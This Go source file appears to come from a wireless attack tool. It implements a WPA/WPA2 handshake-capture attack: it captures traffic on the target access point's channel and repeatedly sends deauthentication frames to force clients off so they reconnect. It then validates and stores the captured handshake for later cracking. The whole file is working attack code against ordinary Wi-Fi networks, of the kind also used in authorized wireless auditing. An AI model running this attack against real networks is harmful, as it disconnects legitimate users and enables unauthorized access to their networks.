package attack

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"time"

	"github.com/bytebuggy/bytebuggy/internal/config"
	"github.com/bytebuggy/bytebuggy/internal/result"
	"github.com/bytebuggy/bytebuggy/internal/scan"
	"github.com/bytebuggy/bytebuggy/pkg/wifi"
)

// WPAAttack captures a WPA/WPA2 4-way handshake by deauthenticating clients
// and waiting for them to reconnect. Cracking the handshake is a separate step.
type WPAAttack struct {
	cfg   config.WPAConfig
	hsDir string
	deps  Deps

	// fallbackDir receives the handshake when hsDir cannot be written.
	fallbackDir string
}

func NewWPAAttack(cfg config.WPAConfig, hsDir string, deps Deps) *WPAAttack {
	return &WPAAttack{
		cfg:         cfg,
		hsDir:       hsDir,
		deps:        deps,
		fallbackDir: filepath.Join(os.TempDir(), "bytebuggy-handshakes"),
	}
}

func (w *WPAAttack) Name() string {
	return "WPA"
}

func (w *WPAAttack) Run(ctx context.Context, target *wifi.Target) (*result.CrackResult, error) {
	bssid := target.Key()
	essid := ""
	if target.ESSIDKnown {
		essid = target.ESSID
	}

	if !w.cfg.IgnoreOldHandshakes {
		if existing := w.existingHandshake(ctx, bssid, essid); existing != "" {
			slog.Info("using existing handshake", "bssid", bssid, "file", existing)
			return result.NewWPA(bssid, essid, existing, ""), nil
		}
	}

	capture, err := w.deps.Capture.Start(ctx, scan.CaptureRequest{Channel: target.Channel, BSSID: bssid, Prefix: "wpa"})
	if err != nil {
		return nil, fmt.Errorf("start handshake capture: %w", err)
	}
	defer stopQuietly("capture", capture.Stop)

	db := scan.NewTargetDB()
	db.Seed(target)

	clk := w.deps.Clock
	start := clk.Now()
	var lastDeauth int64 = -1

	for {
		if snap, err := capture.Snapshot(); err == nil {
			db.Merge(snap)
		}
		cur := db.Get(bssid)
		if cur.ESSIDKnown {
			essid = cur.ESSID
		}
		elapsed := clk.Now().Sub(start)

		if !w.cfg.NoDeauth && w.cfg.DeauthInterval > 0 {
			if round := int64(elapsed / w.cfg.DeauthInterval); round > lastDeauth {
				lastDeauth = round
				deauthClients(ctx, w.deps.Injection, cur, w.deps.Session.AttackerMAC)
			}
		}

		if file, ok := w.check(ctx, capture, bssid, essid); ok {
			saved := w.keepHandshake(file, bssid, essid)
			slog.Info("handshake captured", "bssid", bssid, "file", saved)
			return result.NewWPA(bssid, essid, saved, ""), nil
		}

		w.deps.send(StatusUpdate{
			Attack:   w.Name(),
			Target:   cur.Name(),
			Message:  fmt.Sprintf("Waiting for handshake (%s/%s), clients: %d", elapsed.Truncate(time.Second), w.cfg.HandshakeTimeout, len(cur.Clients)),
			Progress: min(1, float64(elapsed)/float64(w.cfg.HandshakeTimeout)),
		})

		if elapsed >= w.cfg.HandshakeTimeout {
			slog.Warn("no handshake captured before timeout", "bssid", bssid, "timeout", w.cfg.HandshakeTimeout)
			return nil, nil
		}

		if err := clk.Sleep(ctx, pollInterval); err != nil {
			return nil, err
		}
		if w.deps.Session.Interrupted() {
			return nil, ErrInterrupted
		}
	}
}

// check validates the newest capture file.
func (w *WPAAttack) check(ctx context.Context, capture scan.CaptureHandle, bssid, essid string) (string, bool) {
	files, err := capture.Artifacts(".cap")
	if err != nil || len(files) == 0 {
		return "", false
	}
	newest := files[len(files)-1]
	ok, err := w.deps.Validator.Validate(ctx, newest, bssid, essid)
	if err != nil {
		slog.Debug("handshake check failed", "file", newest, "err", err)
		return "", false
	}
	return newest, ok
}

// existingHandshake returns the newest stored handshake for bssid that still validates.
func (w *WPAAttack) existingHandshake(ctx context.Context, bssid, essid string) string {
	pattern := filepath.Join(w.hsDir, wifi.HandshakeGlob(bssid))
	matches, err := filepath.Glob(pattern)
	if err != nil || len(matches) == 0 {
		return ""
	}
	slices.Sort(matches)
	for i := len(matches) - 1; i >= 0; i-- {
		m := matches[i]
		ok, err := w.deps.Validator.Validate(ctx, m, bssid, essid)
		if err != nil {
			slog.Debug("stored handshake check failed", "file", m, "err", err)
			continue
		}
		if ok {
			return m
		}
	}
	return ""
}

// keepHandshake copies a validated capture out of the capture directory and
// returns where it ended up. A failed copy never loses the handshake result:
// the fallback directory is tried next, then the capture itself is referenced.
func (w *WPAAttack) keepHandshake(capFile, bssid, essid string) string {
	saved, err := w.saveHandshake(w.hsDir, capFile, bssid, essid)
	if err == nil {
		return saved
	}
	slog.Warn("could not save handshake", "dir", w.hsDir, "err", err)

	if w.fallbackDir != "" && w.fallbackDir != w.hsDir {
		saved, err = w.saveHandshake(w.fallbackDir, capFile, bssid, essid)
		if err == nil {
			slog.Warn("handshake saved to fallback directory", "file", saved)
			return saved
		}
		slog.Warn("could not save handshake", "dir", w.fallbackDir, "err", err)
	}
	return capFile
}

func (w *WPAAttack) saveHandshake(dir, capFile, bssid, essid string) (string, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", fmt.Errorf("create handshake dir: %w", err)
	}
	dest := filepath.Join(dir, wifi.HandshakeFilename(essid, bssid, w.deps.Clock.Now()))

	src, err := os.Open(capFile)
	if err != nil {
		return "", err
	}
	defer src.Close()

	dst, err := os.Create(dest)
	if err != nil {
		return "", err
	}
	if _, err := io.Copy(dst, src); err != nil {
		dst.Close()
		return "", err
	}
	return dest, dst.Close()
}
